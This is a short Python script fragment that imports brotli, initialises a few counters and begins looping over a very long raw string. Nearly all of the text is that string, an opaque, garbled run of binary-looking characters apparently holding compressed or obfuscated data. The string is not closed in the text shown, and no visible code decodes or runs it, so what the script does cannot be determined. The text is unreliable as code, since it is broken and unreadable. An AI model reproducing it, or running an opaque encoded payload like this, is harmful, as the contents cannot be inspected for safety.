import brotli
n=a=0;b=1
for c in r"""^ :)l
uu "A ?-pn)̽9Plpי<+°ӯL`\\Ԭ2)a..-|Ll)ɋXB^>hīحm8ܶھK_UH{T:{EjDBQtx& Jص0OyӓZ)lK'4
"zM$u^Bnڽ_AL3ad~y9g>ݙkM44׋t{ri"Oˆ6}1v f)> _X}NzQ>&/}BPʲ[NWS5:Cl?l24yVfl5u*mVkH

'>Û\Vku:f]Ax.q4-_At{#SRekv5VIMNO(9Hwɓ=[e(թnJsѩ`nY|K\b>6iL^[ƹ:;,ԛ>֏#0cMaLbI{ϬY8veSH١Tfu,ϑlbr!mϋ}@2m/ڷc!c"Rӥawߓ;*@PmPϞc*1ne8|ΐt)͐P}n-!)7(K|{I֦`Y4AĨ79pHӑqGQm|6*6+ Y۩0DudiL{szc?ɃU=Adzjv)ÔȳF'9OJE8GSO)c.wuBN֦wS%S``aU{kۼw+1ݏk¯!q|Sh$+MÓA6ןYW<FA>ua,jEB<Pӯ1a&Z&>hp:m-#p!!i{__%qg9Vq0e,crxV'Jhj{y2كL8ΊذԺSֳ-cQ{?DB~Eќr@	p ʾ.4͐Aax)\ҌbbBnaIf>;f<;7,$VR˝7e3$Iyj`"TR!vNByfZA(OAEg?.̢*ـܟ2\Jtk6v.UodOV%%Bk6Fȉv.s'AS[cfu&l˫S̶tߤcX[|t;X6Imy`ͤ<UzYt4ZA(z9Xݮ6X"KBj43$5SNN6TECd|Ë|Nh	7Ι.2ƙE{Teb1=q1}%M>CJ:xױWQƥL^	HP~= 4Vdlt7"EKX=Ʒ`[a`uݠJٍ\t_d%!cũˈů)ԗ_>,>Tq-YCM%x_h\ۿgqCٌx<+sKv*D-UVR[uf~<5ؔ$gmPXlOդRx>R-)$QԳ TlKVg:~Ѣ9Qe-BXU}3qgqNIj	PyDzAل/RrfD4U],1dE44*֠ y<v$"m]T=)0+z=[R9ɄurtYYTƾKzdۢ4HJ9X|ErF'ҕ]Jv( fM,D.0{3mc@U~
;)ΘЈG)nCv5N*YRWudYϻnnCB8ӭ~5{;0 v/,oc!Np{n]5x?&Pd4-:Z[Y#Kܵ)9-=l--O:>X ȎP1fZp-϶Y}`0:#Hq( +2ВFKՊ{$Y\IKrI_ԡ7ʟXoFa|;_"މmzSaYfIvؔ4LzU,loQE_lo%p"%IƬ-٠SkѾRҽܩ{H$/"22N8kUʝQ:,6&ш*l\T֞Ocsj@Siĉr" yoЛ!7n\Mt ~>i{ˆBDbTT˫T~Ǻla|(Q`$16/ˈ`r-K+Q''H)~PÝ7{$hr&%hWHtn6?([/+2IMKn[АԐoEK6N8)2DȪE۷#*"`9ϛmx&ҏޣ25T`J[]oN-orH8)j31vL6Vf)qUDLC±= ٚBz\csA@Pe_d2Fʎ=QLac{ Pbd'ur_@|t_D:ߨ"ϱekݎuSu;i{|?Ww$#b`j5cnwуsrɧ18Okn%jzsU ;knæ0p$jtHB,f>$Ҵ[ρ"HO f[-[s*KP w
c;,͝ڇ+raD<!1̘I&J"|zJ\b%Ѳ)$ -^~#}%?2e^zCӸA@I$-ȰJE^5\4g,͕"RF|ZVř-/U4MUwT6jƴn
74ՠ"ڋtӖV*WWi6rlBե%"?=j)²ň9AE>Е_UL?M߆uFǢ:tf%ܣ"Ȱ+tGI?#ܗDcIhuU^DU&{ʓƑ.'!(.+E}*nPCюP47ʏ=r}_"؈G4é::^jhBYaikiƝ
U2e
IYzvVZc~ͻ4QK Tb<X/ߜ 5>j׃*~<-PFC7W68=ӞK/HPvzW@#l;^UCQ߹S1|$~8ɳK9.ɊIіmԶzeg|X3{s6vPwXXz޽ʈԃ͓ZHh%+O"NcF2Ole!^ʆߌ٦vn0,?Π)f<Ev
N*6Yӌ:N%vV(/=@}hڍjV+zDa>E:g[2ÃwlE7ϣ:Z1GRbM9ҀFH]p%"ٷδ18Daxm<ȷTWx%U.TJPd7@W8˂,;|
7zrvZ{/Cúċʮ֋ߍ_ܩ\NԽ<B,^x@ƭ۝r67 N
C_+WO'vv~YbȎ$`cfKeeňW̳`nֶg3#RbS=O:˫C@[YsХCűfé|֡˻BS+ʻ+.F1aU3A\*C^W.MV[}3E\c[AKtg21j,G	vzu8˻hwU:9DĆpl@"g J;ļBw	0je^ͱW |@XqLQѷ,a`ֆpI޹oHnD_q|iSײz60Wm~$qi5n&6MN*x85;%[}KĨ\Cmhy%Kc,BʌSd+Jr7x7@,xPw̳"x*4iOKMd<SIq4`Dx7oSϩ+8 ÓY9.@U҃1}qF{L*b;4g;]ʹ>[0W<l̞jL2"Oyʂk gH'a0V~4,Za9Wj}!=e$"d/%t!N'j5cL~^ߘN3AMcJ[fKN<٬u/7UXBE$ѕ/2įB`C|v6A{t֬¹\cr)$B(}hOMJJ%5FaHjjAۣ9wD٪;)0|=ҍm=?vVvTpgAI80uR7+28Y5cz{R!!s4Y˟Boۙ)yIק@R3<#ȗm`r)BldюT[>ʢikh̆
Xaπ(gp3i.aBNW9Un̐T!AӞ"ɜn|3ީ_#l70n6Fq-uqb@[0L'
Bگ`+lʠyMue`l5jNְ.PqÓfZ2Ʉ,ѵg+qQ>mE7gB϶%Oa}PR؛zx<FlјF,JVjiӵedo<'9W;LHJΛIPs_gSp^^|4ZuUǯ7$Q+ dle}^ȚːA܁ҤI*#Nǭhm1̷{2ŃhkܤןR8SQ2Se{*Я!Ss<NzeaYd63Y@(׊	_#0jv7a	.3ޟA3\3_x	l]>ئ\3u?27R^x!p!4"ZO70֑Xƣr|2aO.!DxCp[|a%0 K869:>`Ɨ<Z66@T&uQTҟ&=;|y%[S(iZ'eKsԬL~9 odq~<wmkP;;bk_l$+M6Oţэ}Z|Ѷ+I_v9	.1
9M}#tW2Jn	s|4'%OxlΛĒ;Fy_πls˽JV+%rzL^9{HVfxtT˶<kmiWGgLȬUŶr#)e^WH*mQBsEٞ38&3>.~Η|b]Ⱦ>cA!ϒ2G[?9އ#ӷy(1ҁxta (Ȯm6_A߈:s]H]گ(Q!+:ۇ˔vX#pHk?^ȆV5F:nsbSĒe1ÊshP̪Q9׺%ͽ¿΀oPv9~HHpYr*'MqP̉*-&a&qRh"J3ˈM.ne8zZZizabN4M@іWaПʒU,T6]ʈ:DH>;9չXNӜGR_`L3")ċqYd mʃ~B6>*ީTG̵MMQ&os<03]{A'l/}kdٜ	
fm8tCzҗI<?>ƒkjLp^Ϋע_Ѳ~Ntaj;ҸB12s9P-buW$._~xNʶs$[?^h7 4OR_WXSԞalH3b8κyՊ3m(+܀/^lA6"Ӌ7I/"xd#q*o;f"*TRr8nէv&$hJr
ZH՘
fzTԑT\*j,z
ʨӜnܗV	Z0ˀRߏ56 /gMwJCZ;KP]8*4WܴWϋ|B|?zR`Ж;\EEhoXvb<'iζM
vszE(QG?W.2܏zOT\(NHΡw{7$|=6jq/mF[4"60mVQSΠS?4cQ~Hլm2h1u4ܫ`m˨,nb%_pN1x&͙:3P_4I%TFj >ůVٽ(ǠӲל'܆܏I3k~`ŵ>!VLQT1tȮ boW/Y;?(Ft^t}#;;^ժs(˓>Ą|p
S)P:11
J#HR٤5u>_ɅYOא/2l1=p9bDW|{sFޚƑwٴ'"*+:sVB6Æox˻nnS1c4Q7d]g8UBFi!u.Y$ɏ@(OnOk:_ܭgRIl=Qҝֶ1dzЪJM}n8!~E̹!\:{;׆tHDsY?:vgCP݅htMFE8a;*E6ÝT36)}ΖB-Gr+~ۀ
l_}=ԛTLbf	`\Euzڮ"H`U@_H"r%ȩ8t/[c]Ɯ;%1EEó4͓;xFt,k%"5 18.܊Dȧ L-~_w٩d_"UyJ.kT0=p2"4V`)Q4)NyAT)G3+_{Rf+܀$ͿSd(ƊЯ"bz,!:>ҼEmVֻfU^6dwܞCMm7dݰrs@ϲ3.݅˝E3/,BEBjx9#Pm$OׁٙS<"b8Y)EbCfbŧf:Tz^HL0^ۯ+e2#NN|$oHKކރ#|vGN-.*hYjs_K`DLJv8>m[iDy$֗xNғ-Ie?I.eɢl٦܅8!+w%/E_$K˨|Î\@f׀1ߍ{@u9)w'ra.hY!0. ..1K?
KSțD,"*g{idˉ+:,P#ќ7	8ޕ̿˔̱w1uI+\Hu +!މn|<ůkԻ8@	jNمvx
,ywst'/+:^ѣzmʢͨE P1k|؍fK+AɏlNl6*˛nf`h~sӉ!Ӂnr9Ҋ,c/u'ldbwOuiTc%|$"߻F|-{R7АYU.ܬjߒcƶu;&Lܳ/ZD	G(pMU0˶aH?}%egh4Oa64|ɛW'G4*ܙf7n¬SB>l*r#_Ji-=؄̊%R(gkXBCL!bOZg!ymvkƀޣ%؝L%	Vb>KlSrݽ:%(
.F[8ߣ&[6U~\%9$1Rdb:oXٗREmIá{H@#$IK[s'ͮ3~WjJ
Dӹ?tBޟŵ̋46[L0&sرtWluЧXƤjҋ)f[; Zf!#ɿlÂIG9vZ}J49ŤDE~;Ҟ>WlKuӢohί|5]vLߓt9ݼ'֚ !>Sg3ǋՉ)fVĢazLǫ9Uŝ̼?>7,Wv1۴PWr;O/&u˼ǾTi+nktQ5(Aŀ	`vmȻϴǣvA͍n:Յgr֮ ҋib?*SEݽ{d \mN</آjfO3[0DZbqBIL$ȔT,#@N5`b˥3zHv#īFыLi/1e%3@]dYL6[O%Vo֘8dB:].:؝tgͻף8<GF=$JoXوZ^W.jӾbql,Kr|T&(=w0_oSĴ6we-vޢm@/f܅82'&~Q83_Yʿ.t8CE1
<xA8۠ػpGNHW&؈L=o:[MPϤ2+9~oPfjlߟмG1
g'*"&.Z9F ̩'qAňYXϹ<uGFNعc{Y;3JaM	3NLt=u7,$cUߍvbwȩ y$z ,"O'yEJb85̚3iuz#e>WB>t/Lu\[&c4rEش^S|an^	EGoP+36^r$?,lyJ؁?e6qG˰,@^ѝ_RCN/T"Vr5z5+FHN-/=3$@+MNӚq{~"wiIl{ޙ':!TiomS`jXPCɳm~)\E0mCIPϸRYpڽ%Х#/۸rv[&`,@|ؘ#͡^efӻ/}~01˕Tرj&v֟+2ru3^+G̥pisVуSHmǱ.c0#XSZc":zy1Κ&ؤ>mud&.c(oOw@ne9#[wz-/1
O0p/ǤDIaQ]#>;T<aĳ)yzsёMY(ˁoc)-#Pz ȕ¢:XX\eŽkc175.ƍ5ֻNieCL#wI&:e Duex*[`Js)rH4Lp
ˀR$b`Jc$]
:Οwc\>P]U ;K{(&z+]^҉/;mtMdJ8ǐ>Tn*U!ۦҴ~ȑҞv*ҁu~|}ϡIVe̠nH(^P}ò%ޝʶf?7uXbPymw953/+tƄBOizg(@symIs==Pjtzgz
EnhR+9UD[+'M6b^&{u8t&WR	!Aǁ9,HS̤Js2MyEjXkJ0Y>*i}Aщg'b-<o0YkZ_`ÿ2ʾl|`5nSL&zMQ|$p}-sǣɼ[h&Yj6_VXeT2,8=Ϸ'6."0.2D/޲I#xf8}܏)B_%ͧe;s	bD#26_
 `(19]X>>AqLAρv6Y|lg((9țؑR>Y'ǯԨ)ZK[%>*NQ*#u٦;$AKITlUPS_FڪyF^7Kdέ5WRaC'+OsPMٽyƻ[;<l!`ڛЪ<ƞk?|iϿ	IܲeϨ&7lK1qԌPy7l^<]'l*x(NWϺy0W*:"EШ8^`c|%*Dy3GƸO@˖	+&A&jW\Xe.S>jEu?Rg0%qŖcLg|6e6x_1̚@k5^ҭrzrS"2<a|z0ԧ^83enʃj2/j1DUISsY?l|ćcsi(cޓTǪm7>N>cgfumޓL^c![ٛwtyk5ĺi9.3i$PǜCTtBb@Fu;Ģw1\Ut̵
7?/ճ:eU,|8['غ)(Ê*@_N@=W<XMϋi?t@=$Ġ_y+i)؄&>*@b҆V@/KWuSS(fT1u,U=z\AIYLKaA'yo{s~KɞtÛWf.$}0G jxZq\/yp ?~~0^m۲ѺOJKZtq_K*۱6RQa:ʰguN<gϒuͥbuYr9ogs-ȝ	KOսpa_aĔؗ?-yqTa9WWw$AJ3UhNd^u\@nstH3W}VۣOG`JhUv9|MAn$!.]#s?':\q]N/=7DPܼs(rdPWA|?AfAɻ(̫enID5$"'4m"$x7g]p9>;3y:+ݢale}6SAypRC]o0ߪK`w6cփIIU]+/6G Dy\I[
(H@5OvѴm̅!v.62Q2p"цDD;#%bpj}گnҪk1=>-Jc	%}My-O֜RuUYglbF^ΦEt	I7,AVSO{Ǘq\7Οx;J˛Dy82#4Ug6{#WishHY!\3>e)5KWpSɪeswK)+a8OkVMeݹU]Vد?۽uC2x
[|6Esh2w0[ǅo})%'WiDF^̚eߣD2Y[זuJa֖؃"Nw/w|U$'Kx,H`%&n}HfnE3v8'9xJMK^D^ˍWSH\HzđmN,J~<"@g8<	-axƹ#LFjJsR)<B45_9Øei1o7)xkT,lo[X6O*[ޅG4#s8a?ɩĭDL̭֛,^Tuw&S	I	T^]0ǳOm1W+a}0)j~M+/PFD#b"×ݿqrm][p'Qτa7ד,Ui+]w5d>C*b4Y?fh0gQ}W2`IC&iK)5};F5moI$rw:A.k4z\Ғ2X|au_"J`ŵ]fϢ\͈?+vWPz6=̀j@8Uܭ(Lq΁[
 0Șծbd`V&}Kqٸ&_Ւȍr*j;u[^]HX`֮5DY4w[@eO;a("Wi	E6A3/HKG:PÙeNLH'Rp0٘dP}?(|o-@Pj0ٮ~wWuY7М΃#>FN2A>jsc?
;*?޵QР	NgM.,VJjݭkOH{{zJ.DbFqXt12`YBĜX³1Uέ J*r\T3QwDp7G?958GC[NnmSK<OF\aEzʝT(B^ {pC3
4ԫ.ě(@sy9\ܑGS޺bZ?MlpBJH.ŀkvH=Z/۪/y,lV.3=%Jm?WBhבѹr<>$y;?4[-VƃVl?ݝثhi3<}.3s5p:	8mCdxv}w9Ɂ*@J?kkvБcX4TPMn4΁źSoE3%i[ RϏq?pCJmss~gjٺ]Ķ)Ʀ:7ؑyclsny}[&|	]"hwEjL9$/0ӌXaÑ	#0Q-3Yq9L`];5(my|-yʡq^
y:OK:4^+'^kjE˜63fa.A6B#]V|aC+pԊ7EfhĻ)_|>{_u9AZ5HHip+jtTJCX^s/:hCHEEv\(^n_\:siI(!lVSMoDZ#s`v	z@Tl
RsqځFî1w4TMdeՄlw2$vЅǒ@Uʊ{U1Mg K.&ѪA'Y7PM_j;:ƆŚoq,5Yܩ*9M*V ;J(n~1oVcLfN{ѽL{Ơo֜yAYܩP*LAԦ4<9Ʊzm'%9n5,]!v}%R9\*}L a#F?g%4JaB'UkQ=[)cGg͕=Ui6ª:i
,}=1mmF$,}fA'[xLfչAɵR!Z>f޺łDЈZTYW%ֵw;LʿY
h"2-B
Mh@{hܿH,wr0+$I (#)ŉ[?<.Rĭx@LUuHJzhKQ)5ߣvPɗ bqrInCo%8`ͧ>c_MTe-0-}jq9ZFT@3-
)YB9J $Yav'$3"\.^ӾX6NC>FWsGavP	O(Zh9	2^5acwcث.o*LtUgD{^Dyp/	'] `sizϮl^.?;ߛBC3͸ayK?1)z=23?k<vlɇ_R}/5=zzՑAYU\B>O4p0]XXʹ1ǵԣwiir	=1xU/?b/GfxFN4>1#8Eprj}1}yANR$X:\܀`z1s_|FZ50=kD	[؛}jBv~}oߦ0K%%k8-ʷ4IzSr l5\0,	-._-6jƮ(ՙ8̒*1Gz?{*̕{/g\+wBlHآŖ"c@I(G8foYU#p>zb&ݜU(D)LZpw>3h^Gd^!s7
'bʷ8PSMնߨAh3)kN`Djo߲v^t~j0ɷzLs+Ǻ Iʅ>%d)ج:L&8ތɚchD8U׈\&ִWeڔHշgRG\i^*_xPp=K\LujmO8N2~XnV!w_kDx\95J]Ěs.ykcchO:ߘ;ҽVP9d0	)̝?Ӝlõʨ	iժ֍ݒ
]vlٵ[I޽ڪo|**[qߦ̜>Dz0"
Jxy"ٚen=ǴFF`:۹IL"ԭtXڕh:=^6``<e!dPa_F,̝*^34y̫ۈϫY	(C@0/qa[s/gP08sV=Yߊ(3V=e
̑XL^3m0'uj9!{-U=f=Badk
85Jp֤ZǓn>K6\SңYL~?9׌<Й՘zپғ*ij$3ܴ+ŪY*;R˖0@eP	=ƌȱw$Hױ~'v}})`G9üT=Tޭ*ȕ2]	7T3V̛<_U[ںcCƏz&_ϽR7fǰ<٧*w||ZFvV U*`WVo؇vZ :3jԕհ]qz`]6{NYg̀V[(MfNpUOD(MZ)67ҼP?4yS2јz>k#Pd^
4ȡts?2ݼ\82&B8l$Go2+\I\^
i[hzZTTI~56t«gzؑq۷qmat!cg,]
!a}0MֺײΞ;	ZM݁0yo\mcI@ŒFL0ɪi815v.ҁl~k1344f7;''<DP tf|o@[SNܰ-kڪфn!Te"^u14]'߷6ɭLjc:J]q	Yd40:3ճI))̉|Osܭ:ù2<ހYeqgjJ+Τ<rߗB-VTc&޻V5k4xԬ
dubщP8Ȏ:Ÿ֢O2{~*{eƨ
.ijЖHϼXj98g'q$fUnLX*{φ!HU8ښ.j-p:׀RAi/eu]ٹ sџ7rCN_A~:ǣAezebAXZ.lZfNsm%*8w'7z*y,Epjp(?[*~vaBʲ	Z8u#W9QOTИ
,B7#U]ܭؗIS:%%B87B9
:Η<GǩocY.ݵA;.F+
Iٹj`VX~p
O$|$ԂD?}-1cU~ύrP|՚.5IV,A5Ã`4ǵjبІng,N#.6;VQOQX@f-(>D֬YbR4g.6^?rҹD׀o|kE}P6_F+͒^sd9RA]˺lhmf'?3a%&(9ǌfrT&im'kE=آY>	6ZFLKBSo*htc$ҝP@\!SX2	$ķ|\b2]˸ysDcr[T¯6{~PNB9L'0oƍIx݋:,VPFGг8ܶͅtZng2zyfؙL+IQt,
8hZ?40ϓB{qչX|kOJ-W(9\ػҢ%t`i98]Ʈ^-WkЃqbٌ_ w9/ξI
41~<YlQ"YR51:<,gg{hzd3ܨvw}l[Fyg,a(mU#݉eC/jʸ]p۷~Iι2U?;S#)͉z:[t"ݤ]WLF3`Tӱ11M?YJ/spپ`>}0d#`'\?Yz}ڋ;7݃gJaaA/U)|D@m8[UW(0Дxqh'W׺`.ߌ|:#׺@-QS;i{cUEWC^7Ħvw2v8)qFs/*/cqN=$6o<~GD,5ÿ8Zy3=ȩ:F/3<ou3g9_Aƍ̳|{;)۸Ø>gkp*f{jL/B8Z(iǳ0z&Kf	=Xn
QRh-tÝiɗSb,=
HsN9lmN(+Ew{xAY+K<.D/|!e{XD>gt6b]DN6^'L(סfZ"N%ʹaօ8utNe/*Ø4Th|[e5VDM_6*xdW'>=-Zil~ް@NEv)z/
*vIC8_͌E/aqv,ӦGLLpp5!q|Kך5Z](ήY,9i-d^`BnDAV|!:s\@xJW`#8e(xH}_
͈j+6K0]ƸaoXܠ/*BfsA	7("Fv]h#Ev)EWBWJ@5n^zȜU?:Cϐ9E%0%p8k@T\k+bS{%xap@q(16/0Ҝ
tc^ߕ3Iwܾrl-ĸBhFjJpi-MyRjL7ی|fZ,ל|.R@pI&,cxOZˤMBȏ)ѯS|S`)`ie^%֬и\AƢh~oc_;w,9ȂX'0Vd."1~t9IaD/$:N?L}k1GUUɇzNΓT_wqHM8ZشW}?02"r$gƷ%TՌ=IHVƳ|Mw^L6Ü%v3{HE{&&I,WHEc?ʫG~0{l+=JS9c;``ax['/+(pkG%סouO41lj?wT&TUSgި_Zwи)ڥtҭUY>d-uZqʑiĪ*?		Z]r}4Joxl,x/"Pݖ%bd7{-0od^}`Ӛ=ƕޱpȆW߳;Q4Ҡ@HN̛ĪК@*1͐0ܵd%͹ЁQlQ,}hWb>Poӻ[!ߒJ[,KF FpW?MDOKLtt԰'22914eά\oiKsF)2BUIw:sϹHFYX>Bءg
'ڹ.>԰ׂj8x̖=س۲vHz6#@YYL	xn 8U۲َ2o7@uJppĖA)XE2l7PdӬj3T8CGVpV1%zUĕjKvaUI\v2K<)"9)OWB'tZfU\af3tP&hHƅDn6F:#rx.IKStc|I4w xG0tv`oB%pCU-&wWDR.GkZZye\:$հAxa1 (Q|n>;q׿܌DƏKӊ`sّş6fz?gayѵܖM<oH<3Ý|bo}{֋$}BD33B<vY*Z'
xhvݐ/Ԥ#FCȢ7keS.u/Y9Nʲ[ѴV#sd:.&>JItJǝ0/NVIݎ{Ne-NIlD:!Џ=%5rThd7(0<w՝[1N
50-`B۔v?Tdϐg=4#/WV\J#_!Yż|BXE$[Cgxd?0 ծsC0VuIDT΅y-8rfS#B/ވ݅J;;fIu-t-1wǳ1ҙVnT@bH|¹\Pӊ~as#a
ɪ}5,aöP	n0̿HAۧdRGh!VI.9R)ۋ݊|y,Οr'ցˠ8܊]۴}!qϸޕÉMnf!O|>3z=pOY>|(jդF%#OiaF˖LǪo֊dn֕`%|ۘXuXrnIALSƜZ3vzx;x˱|1`Jg*dX/UbV9XƉڿYL!<QlTn\yuU;sMoJd`Ϡ[BրOSLw[|O.Vs.y7kJ[Tbl0E
46W`A4ɣFҫ܆".ο|N)w21{wqh+ۘ'Vއ;oEqZݪ*j`'Lp^wCHx y1wH!K@Guݲ(PSDכǭ:-_Hɯ\Bӏ\x7l"a'N͖̑@Q̱b׬bUYm-jj#'I#ѿq8Bs h)U[wLN(Y}}ތL.ɢ@<kT9'u&pN(<G}VP/N˟*xMֱ:!_;݁xUC]]OɡPoď
@+^^[vbWvl_pNޏ&6ܥ3N&LtC̵a>[FF'3.HE03~#9{zM0p֚'Li݈(Y,Z[\P:%4}T~8M̒u=	\"P<[BU1l,KGT^mPߑK2@REV|7bu7w~#?˝V0Pb;ʔ4nZjeѶcsթv="v,R:7a[;xwN>
'g:Dl3K0r26G?Fe:"hg%@{,QYJ0<)ۮ<?aUwx?L6a'R	ZI^t".qT~Ω_1/	h z٤*Ȑl\a?^΂'\CldoU4[YUB̻;N[˓!
ܙQy&}Һniɠ;jg8=WɉaSrt0՝ʹl(	?}Csb)T[U~L
`WtԨLE3g8,:1]1F^Ȃ:_͙i%DحڅvlKLľщiYӎd&hx;v],"O(iѧdZOJ-Iߦӽ;f"WEYR_X/Є6q;QPEE.USaHMV2>9Ͱt%~05F!|QiPGiׇԪ1¯dL7 LY%rZ"4֣ώXm^-23T;E[[u	t-EvG?rbϩnG
5Ë5IiXХjjA-ߘU	}ʑő@v+;9?3	Ӱ}^oÆpX`ծX+E$QED45}[>-rλĞFHLhw4̉Fsg|#uSUa!pjEqɵ@W}޺|PEV>\\kϭin941?B
`|ysR޲P":JpeҖ>}ǅ~qLW/qvV:˟w(pGNu/_ٯI,piϛ?FPͦʾG5msvKM1vgۮk£6_szZrڕ)nA*EOYU(i:!,8u}љ¼r>ֈVonv"`A9SS# =5Clrwb3h4Y؄ҢyL*E?Ц1xz{~yΚ/^=d04A[- ۽P9a@.m99P0U5/x]__0bv>?H #ON~sD,tH(&'KjDy`C3@sif UYQ(9]U$Pb,=E;Un2c=Sě$ѬX=_tnE}G!Vڣą,5JDVy̛ۧJV"$Ae{|8Ѻ5՞FFlCƬ~+:[6q~CRϏ=7NNzMWJn$7M5~Jb;+_%9ѰP<uθY2^tɧ`PaвOr5wd!'Љxg9Duehˍ=G9DuwAӄ]PX9Q$af'gz!&&:
͒KDcAsoUAÿ8m]_of`y7"]ȳ.3ҶY_ Er?*#f:rZ^o,7/M oX0[pSH=v<;˒WdQ"ߥ&uΓƎdv^޿wf5"gǝP<pURϓ0Mi,T	jFnp!	ҼkeRuLDn,ðw=+<SW܍<(F%I<"R|98tпn6nUnRhw_LݢyZgڱJ.ݯa6;CЍͲf$QJO*nnZ4ęDV,ՁMhhʛYH?F /+Ԩ	R
wAɲp{?jdq{rW!X;2ٜ?CD%z+Dedkq.mxcy4B9ϛէ%)ԛD'Cz2f;8mկPbd3$X$՟}3
S7bͅ90^\	6DA?'9;p ?F~mKq,O<%mviɸgPG5i[j[P)ݏEqHW`j8:8V)?`=IFIї.0zO<ST?M?~}Vuͮ͵0>kHA jpI8w\3/hw0}N+wU$yt@Cw$~Gb>S{jq_ƛ
YgϿ{Ƒ׌XD?mv0;SR5{}gԛɞ1#Q>:10X/fX;doA)yC@kaM'gL|Ns<u+PA%<f˕u(RBy|n*ә0Hǅa:!5~IE7ĥ
'yV(ȿT>1XYW,^LvB0U}Ǵ3&SrL!p݂;S,M
˨ޔ!v^DT~]ùapj4<0pTzgՎ?hZ}&<H!ȸɷs<HHh7ڂ/|dJM;1_8JpWKhhK@d]m4bը.=F/R%^C~eEZX'9ȕUˡG^F%/{,ͤpIʀ#~j;k=M؋¥2H	X:}kMDi%=._J4I(NƮK1_,z~V]A3's\s/H(9HMSee.U\0s"9ɟer~՛+6PrrϪmj^ƹ%u^~ŹضߟǃmN17̷%ۍúZaR6Am:<DClJJORm)/XJ\W7G-ieeS>[efۯ?ՆlM(ю"qޒ~dJ2ʹ>zp%ČAC&әP]6$6G G>ۇ1	:|:ȗ/}8xK--G֕LNYH,׾<mU;OxtEm|Xj&@̥S`{ȏ3_J0ˊy&֛XĊ{)*(?th^CYP~P,e^GdǱ_ZtԔ?p9*Po-*4e`ܷ>=0
	0è\u=-ҟ#A5bFڴl$Gځ(1o5x	ŏMPCڼ}F`t|{!vSɍS2xađJ7˞'c^Ϣ
*Ƕl6}xx1*
;jZb{cO,hK6ߔ^ޒ5<B!eh>ҹ.8g϶w+J\@e/g8Rk^2DzWEc1Mi7
~܀o}9[c٤/"#@25Ѹ0>H<՝JB*ëzbl]4Tr4ϡWؙ͓ƈ֏ȃɬ3I6_8p&;I6>-sď*+	S9]x9:OH?Ft-J7NmwtT]+av&+ε;>Tii\ wzG\N8HDqu?s{ޜb2R#e4>0o8=LŤC%76z4$ĥKI\џˑ\`&a,'$f/&"+ynK;Sܠ5/SU`,j֚>u[ N0s՝|Fkm
ξC'~49.ҕ*@5b"Ʀh	_؅8c=nǓGj̊fkk@ƍ3cQkO2\~33lCŕF-['#'GUq8HYŔKՙ0Z7Ze̝|5!e?Iɤ/;j,mj{ڊºNk0gjXqre{ƥ5mǾw'*26&gW{Lj0#|6Yx.wד1kReBMW5d{(AǴHAZL1Po[|ncB6Oqm]k"f%h)}̷d^5.ڥ_JbO:#CkrИ{QUj swn֒w`{ѣYJ@gΊs=#?qDXStlc)@?_[,ىR)9WfX-Onrb?jA XP/$nDoa{|XEɫzrc7RXb4>]ڗQʵݍw{JT^@GaNl_z
Pg,t&UOԵH&}T
	U(qrd@j$J04*B@:jޞ̃5'%],:bppc9='bȈ-Ʉe!T}ѳxʁqɅsOɭV1Qj\j;kQ8z+8whH6Va*Y6!J>oUPͭGh?pGla>TG	etKq,ٴwΦG#ޟ(zUxufȱόOH~$0UlG){va:hXBniߥڱH84,ʼb? 69{T&Y,եÆĢS5De'PXI~JEWi܎NAmMY2~](g>pn{_J^T<[ȘH`h_z,ەҫ+I`2)C (BxCnoS~1*gnDhڳ̹VoN{fd0^vnrxCXՌHUmה*xk3%QwL.%C'I]+Ơˌ.@]gQm@Ϛe nTwo4+6ƊsiRdSHdy`җ_!yi3/w(3tEE XI$Ћ ɌN0}d(ŪI
xLv#-`FVߡԨ&HNSz,O(͊RR	5pML tG"BG]X6'%BMA3]A+jǕJTbsw\M4H]ARmД`է<6+X__)<e#y`:ʪ]IS.ʵ:ӪjE~.%3,b>ֺ"W2MVF|#rGի*̈́Duפ{&toI4,~&-5)0ٝ)q	EE%Jb)!M@<g`772n?~iY~(x?a]̧mP<m]3|\r6d.':FB%q,αN9H%&rnqbMbGq:߶TbN%G Ӡq;B[҇T0n]=*WICbpzrF(y#)8G?jJw
J9^9xý'_PD8Rpí<W[x-E0&WUJvMt%^ΣW_Ƒp#jBƼY`VݧD~)Ĝ+x:y4g!l:/;kO5Mu yAݑluzAFGg|3WMq@>**r9p2!g{PfSf7Lı'(3zxF$VCf[̲?G6Fa`#/ӓ	.~=q?Êu]׌~oKnړT[y/Ѣ'#Iig&+zݍ\9$=+q'+L)ԩZVfϫgݟ"3ڣ|ϩpɁi
D݋UEd #[tUj-ղ@µ'4
wUr6cj`M f'C.M7C7}<|'π(N 	F_2(I@]Į=qt0%rdԉ'QЁ́A[ڪpi%W?^^1,sܯܣB@`Ht+S)RǾ8MMS:3.lPOӺ3L0c)(Dױc˫xlH{`ϫ<w|I=Ybe5lAijU,Ozw,s;\;LfښjgJtp~0Q^ѶĵWL >kہ&P~.ls2` LY*;QpB#@OQ;d}l~k:&xcKoۄ=
X/9poqsXdc΃?S 0Bɽ*a";*8'dVd#<XV@c6ʈn{ -P?;;Ӷ~\uVo@_/Hxc	}_6ɽ	h>uXщїʦҳn6?%'sLxhbMqݠF]ޜ2oI_6~[z3IŜ
8̄UÏ7˰h\@J*S_K³pYGVLf (=L-<ɭƬdbՂN~;l`v|73p{@bIYAi~khIڽd%͉X~σFۖNB7!b.?̊gW3)pe&hhݱwI4kڼWͰ9RbC$_^+
ZRɾ#j'\}QG@ ̧{5`ON
4;7ۓd'PݹY5X8ٵߝmՉ2ǠK2-,:A[Z$E9?L7xl0\Fn/n͍j0M2oq;pG*
\lirAO2]!:k0EFed}85l	JHahoQwt+,ʱ)(vUmrHwk|7[כqb%W}F¸4-32sFFkl3@%};7ɅD+IƴEcS˺%ٝƕ
TGLަD"bA)uʳOd@;s/SBܔt09eHXX߇4|s|ʌj^{Td[[")	"U hG?T٪gωeigtbЌspx^-PNCMy^wiWN`@?K%k58Q܆k(l̬Ƴ܌h́#	)bjY67z|zVX?S_,x):Mڰ1/cj*ԗ*]XIBU>h^H-M(]bL+ts`U1Ҿ؇Г[dМc٬D K
#y$EB}Lw!aKJ2Ѵ6r;qyׂΛmQXER.8tcOb[?14dP1ȊM-&D1ю.s[/B5]GڶԯףͳgbRg6ĕ
ЂX
yIR$
U=Kӊe{f"a^z=t9jA[xqˑ4cߔ2&*j
w-)!2,ʜ˨/i*
Pe;UB3\KQgb`R<dݕMAE;	Pi{Uܶk.~LrlU|OԻs	O>an#Pxݵ	8d3}[n:\V׭Y׈$>v
R"B,Yh.'}?,}BL>sKJ3w+ĝa
